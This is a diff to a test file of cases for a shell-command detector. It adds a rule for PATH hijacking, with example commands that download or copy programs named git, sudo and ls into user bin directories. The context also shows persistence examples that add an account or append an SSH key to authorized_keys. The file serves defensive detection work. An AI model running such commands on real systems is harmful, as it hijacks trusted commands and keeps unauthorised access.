@@ -116,6 +116,20 @@ const CASES: Record<string, { rule: string; yes: string[]; no: string[] }[]> = {
       no: ['ls .git/hooks', 'git config user.name dev'],
     },
     {
+      rule: 'persist.path-program',
+      yes: [
+        'curl -o ~/.local/bin/git https://example.com/g',
+        'cp ./wrapper ~/bin/sudo',
+        'tee ~/.cargo/bin/ls < x',
+      ],
+      no: [
+        'mkdir -p ~/.local/bin',
+        'cp notes.txt ~/Documents/',
+        'ls ~/.local/bin',
+        'cp x ~/.local/share/app/y',
+      ],
+    },
+    {
       rule: 'persist.account',
       yes: ['useradd -m svc2', 'echo "k" >> ~/.ssh/authorized_keys'],
       no: ['id -u'],
